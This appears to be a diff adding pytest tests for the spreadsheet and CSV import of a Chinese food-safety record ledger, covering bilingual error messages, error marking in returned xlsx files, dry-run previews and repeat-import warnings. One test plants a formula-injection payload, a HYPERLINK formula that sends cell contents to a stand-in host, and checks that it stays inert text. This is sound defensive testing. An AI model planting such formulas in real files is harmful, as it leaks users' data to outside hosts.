@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import csv
 import io
+import random
+import zipfile
 from datetime import date, datetime, timedelta, timezone
 from typing import Any
 from urllib.parse import quote
@@ -602,7 +604,9 @@ def test_problems_in_a_nested_record_point_at_the_row_of_the_item(engine, clock)
     ]
     content = records_file(RecordKind.PRODUCTION_LOT, lots, keep_example=False)
     result = do_import(engine, clock, lid, RecordKind.PRODUCTION_LOT, "lots.xlsx", content)
-    assert errors_of(result) == [(3, "单位"), (5, "数量"), (7, "结束时间")]
+    # row 6's unknown material lot too: the bad quantity above it in its record hid it
+    assert errors_of(result) == [(3, "单位"), (5, "数量"), (6, "物料批次编码"), (7, "结束时间")]
+    assert "ML-9" in result.errors[2].message_zh
     assert result.written == 0
     # the good part alone imports, two materials in one lot
     good = f.production_lot(
@@ -661,7 +665,13 @@ def test_a_duplicate_in_the_file_is_refused_on_its_own_row(engine, clock) -> Non
     )
     result = do_import(engine, clock, lid, RecordKind.CUSTOMER, "c.xlsx", content)
     assert errors_of(result) == [(4, "客户编码")]
-    assert "already exists" in result.errors[0].message
+    # the other row of the file, not the seq the first one took (never written)
+    (dup,) = result.errors
+    assert (dup.type, dup.ctx["row"], dup.key) == ("duplicate_in_file", 2, "code")
+    assert dup.message_zh == "“DIST01”与本文件第 2 行重复：删去其中一行，或改用另一个客户编码"
+    assert "repeats row 2 of this file" in dup.message_en
+    assert "条" not in dup.message_zh
+    assert "entry" not in dup.message_en
     dry = do_import(
         engine,
         clock,
@@ -768,3 +778,214 @@ def test_the_collector_is_paused_during_an_import_and_resumed_after(
         assert gc.isenabled()
     assert seen
     assert not any(seen)
+
+
+# ------------------------------------------- every problem at once, marked, previewed
+
+
+SALE_MISTAKES = {
+    # column key: what a user gets wrong in it, and the words of what to do
+    "lot_code": [("PJ-NOPE", "请先录入该批次的生产记录")],
+    "quantity": [("abc", "不是数字"), ("-3", "")],
+    "unit": [("吨", "")],
+    "sale_date": [("2026-13-45", "不是有效日期")],
+    "customer_code": [("NOBODY", "客户“NOBODY”不存在：请先在客户名录中登记该客户")],
+}
+
+
+def _mistaken_sales(seed: int) -> tuple[bytes, dict[tuple[int, str], str]]:
+    """Twelve sales with mistakes in random cells of random rows (several in some rows):
+    the file, and each mistaken cell (row, header) with the words its message must hold.
+
+    A lot that does not exist leaves the unit unjudged (the unit is the lot's product's),
+    so a row with a wrong lot has no wrong unit."""
+    rng = random.Random(seed)
+    cols = columns(RecordKind.SALE)
+    sales = [f.sale(quantity=str(rng.randint(1, 5)), document_no=f"CK-{i}") for i in range(12)]
+    content = records_file(RecordKind.SALE, sales, keep_example=False)
+    wb = load_workbook(io.BytesIO(content))
+    ws = wb.worksheets[0]
+    expected: dict[tuple[int, str], str] = {}
+    for row in rng.sample(range(2, 14), 7):
+        keys = rng.sample(sorted(SALE_MISTAKES), rng.randint(1, 4))
+        if "lot_code" in keys and "unit" in keys:
+            keys.remove("unit")
+        for key in keys:
+            value, words = rng.choice(SALE_MISTAKES[key])
+            j = next(j for j, c in enumerate(cols, start=1) if c.key == key)
+            ws.cell(row=row, column=j, value=value)
+            expected[(row, cols[j - 1].header_zh)] = words
+    buf = io.BytesIO()
+    wb.save(buf)
+    return buf.getvalue(), expected
+
+
+def _position(kind: RecordKind, header: str) -> int:
+    return next(j for j, c in enumerate(columns(kind)) if c.header_zh == header)
+
+
+@pytest.mark.parametrize("seed", [1, 2, 3])
+def test_a_file_with_n_mistakes_gets_exactly_n_errors_and_each_cell_is_marked(
+    engine, clock, seed
+) -> None:
+    lid = f.beverage_ledger(engine, clock)
+    content, expected = _mistaken_sales(seed)
+    before = snapshot(engine)
+    result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=True)
+    assert errors_of(result) == sorted(
+        expected, key=lambda c: (c[0], _position(RecordKind.SALE, c[1]))
+    )
+    for e in result.errors:
+        assert expected[(e.row, e.column)] in (e.message_zh or ""), e
+        assert e.key
+        assert e.message
+    assert (result.written, result.checked) == (0, 12 - len({r for r, _ in expected}))
+    assert snapshot(engine) == before
+
+    marks = [imports.Mark(e.row, e.column, f"{e.row}:{e.key}") for e in result.errors]
+    marked = load_workbook(io.BytesIO(imports.marked_xlsx("sale", "s.xlsx", content, marks)))
+    sheet, listing = marked.worksheets
+    found = {
+        (c.row, sheet.cell(row=1, column=c.column).value): c.comment.text
+        for line in sheet.iter_rows()
+        for c in line
+        if c.comment is not None
+    }
+    assert found == {(e.row, e.column): f"{e.row}:{e.key}" for e in result.errors}
+    filled = {
+        (c.row, sheet.cell(row=1, column=c.column).value)
+        for line in sheet.iter_rows()
+        for c in line
+        if c.fill.fgColor.rgb.endswith(imports.ERROR_FILL)
+    }
+    assert filled == set(expected)
+    assert listing.max_row == len(expected) + 1
+    # the marked copy, fixed, is the file: it reads as the upload did
+    again = parse(
+        RecordKind.SALE, "marked.xlsx", imports.marked_xlsx("sale", "s.xlsx", content, marks)
+    )
+    assert errors_of(again) == errors_of(parse(RecordKind.SALE, "s.xlsx", content))
+
+
+def test_three_mistakes_in_one_row_and_a_licence_required_when_checked(engine, clock) -> None:
+    lid = f.register(engine, clock)
+    f.add(engine, clock, lid, "supplier", f.supplier())
+    checks = [
+        f.material_check(),
+        f.material_check(material_lot="ML-2", supplier_code="NOBODY", quantity="lots"),
+    ]
+    del checks[1]["supplier_licence_no"]  # 已查验许可证 是, and no number
+    content = csv_file(RecordKind.MATERIAL_CHECK, checks)
+    result = do_import(
+        engine, clock, lid, RecordKind.MATERIAL_CHECK, "m.csv", content, dry_run=True
+    )
+    assert errors_of(result) == [(3, "数量"), (3, "供应商编码"), (3, "供应商许可证编号")]
+    licence = result.errors[2]
+    assert licence.message_zh == "“已查验许可证”为“是”时必填：请填写查验过的许可证编号"
+    assert licence.message_en.startswith("required when 已查验许可证 is 是")
+    assert result.errors[1].message_en == "unknown supplier 'NOBODY': register it first"
+
+
+def test_a_file_imported_again_warns_on_every_row_and_may_still_be_imported(engine, clock) -> None:
+    lid = f.beverage_ledger(engine, clock)
+    start = datetime(2026, 3, 1, 9, 0, tzinfo=CST)
+    readings = [
+        f.ccp_record(
+            value=str(86 + i % 3), measured_at=(start + timedelta(minutes=20 * i)).isoformat()
+        )
+        for i in range(6)
+    ]
+    content = records_file(RecordKind.CCP_RECORD, readings, keep_example=False)
+    first = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content)
+    assert (first.errors, first.warnings, first.written) == ([], [], 6)
+    assert first.counts == {"ccp_record": 6}
+    again = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content, dry_run=True)
+    assert again.errors == []
+    assert [(w.row, w.type) for w in again.warnings] == [(r, "repeat") for r in range(2, 8)]
+    assert [w.ctx["seq"] for w in again.warnings] == list(
+        range(first.first_seq, first.last_seq + 1)
+    )
+    assert "生产批号、监控参数、监控时间、测量值相同" in again.warnings[0].message_zh
+    # a reading at another time, or of another value, is no repeat; a row twice in a file is
+    other = [
+        {**readings[0], "value": "90"},
+        {**readings[1], "measured_at": (start + timedelta(minutes=5)).isoformat()},
+        {**readings[1], "measured_at": (start + timedelta(minutes=5)).isoformat()},
+    ]
+    content = records_file(RecordKind.CCP_RECORD, other, keep_example=False)
+    mixed = do_import(engine, clock, lid, RecordKind.CCP_RECORD, "c.xlsx", content)
+    assert [(w.row, w.type, w.ctx) for w in mixed.warnings] == [(4, "repeat_in_file", {"row": 3})]
+    assert mixed.written == 3  # warnings do not stop the import
+
+    sales = [f.sale(quantity="1", document_no=f"CK-{i}") for i in range(4)]
+    content = records_file(RecordKind.SALE, sales, keep_example=False)
+    assert do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content).warnings == []
+    again = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=True)
+    assert [(w.row, w.column, w.type) for w in again.warnings] == [
+        (r, "单据号", "repeat") for r in range(2, 6)
+    ]
+
+
+def test_the_check_previews_what_it_writes(engine, clock) -> None:
+    lid = f.beverage_ledger(engine, clock)
+    sales = [f.sale(quantity=str(i + 1), document_no=f"CK-{i}") for i in range(14)]
+    content = records_file(RecordKind.SALE, sales)  # the example row is kept, and skipped
+    result = do_import(engine, clock, lid, RecordKind.SALE, "s.xlsx", content, dry_run=True)
+    assert result.counts == {"sale": 14}
+    assert result.headers[:5] == ["生产批号", "数量", "单位", "销售日期", "客户编码"]
+    assert len(result.preview) == imports.PREVIEW_ROWS
+    assert result.preview[0] == (
+        3,
+        ["PJ20260301A", "1", "箱", "2026-03-01", "DIST01", "CK-0", "", ""],
+    )
+
+
+def test_the_api_lists_every_problem_with_its_field_and_both_messages(client, engine, clock):
+    f.beverage_ledger(engine, clock)
+    with write_session(engine) as s:
+        add_user(
+            session=s,
+            username="a_op",
+            password=PASSWORD,
+            role=Role.ENTERPRISE_USER,
+            now=clock.now(),
+            enterprise_credit_code=f.BEVERAGE,
+        )
+    h = login(client)
+    sales = [f.sale(), f.sale(customer_code="NOBODY", quantity="x", unit="吨")]
+    content = csv_file(RecordKind.SALE, sales)
+    r = upload(client, h, RecordKind.SALE, content, dry_run=False, name="s.csv")
+    assert r.status_code == 422, r.text
+    body = r.json()
+    assert body["written"] == 0
+    assert body["error_count"] == 3 == len(body["errors"])
+    by_field = {e["field"]: e for e in body["errors"]}
+    assert set(by_field) == {"quantity", "unit", "customer_code"}
+    assert {e["row"] for e in body["errors"]} == {3}
+    assert by_field["customer_code"]["column"] == "客户编码"
+    assert by_field["customer_code"]["message_en"] == "unknown customer 'NOBODY': register it first"
+    assert by_field["unit"]["message_zh"].startswith("单位不符")
+    assert all(e["message_zh"] and e["message_en"] for e in body["errors"])
+
+
+def test_a_csv_comes_back_marked_as_xlsx_and_stays_text(engine, clock) -> None:
+    lid = f.beverage_ledger(engine, clock)
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    sales = [f.sale(notes=hostile), f.sale(customer_code="NOBODY", notes="@SUM(1+1)")]
+    content = csv_file(RecordKind.SALE, sales)
+    result = do_import(engine, clock, lid, RecordKind.SALE, "s.csv", content, dry_run=True)
+    assert errors_of(result) == [(3, "客户编码")]
+    marks = [imports.Mark(e.row, e.column, e.message_zh) for e in result.errors]
+    body = imports.marked_xlsx("sale", "s.csv", content, marks)
+    with zipfile.ZipFile(io.BytesIO(body)) as zf:
+        sheets = [n for n in zf.namelist() if n.startswith("xl/worksheets/sheet")]
+        assert sheets
+        assert not any(b"<f>" in zf.read(n) or b"<f " in zf.read(n) for n in sheets)
+    ws = load_workbook(io.BytesIO(body)).worksheets[0]
+    notes = _position(RecordKind.SALE, "备注") + 1
+    assert ws.cell(row=2, column=notes).value == hostile
+    assert ws.cell(row=2, column=notes).data_type == "s"
+    assert ws.cell(row=2, column=notes).quotePrefix
+    assert ws.cell(row=3, column=_position(RecordKind.SALE, "客户编码") + 1).comment.text == (
+        "客户“NOBODY”不存在：请先在客户名录中登记该客户"
+    )
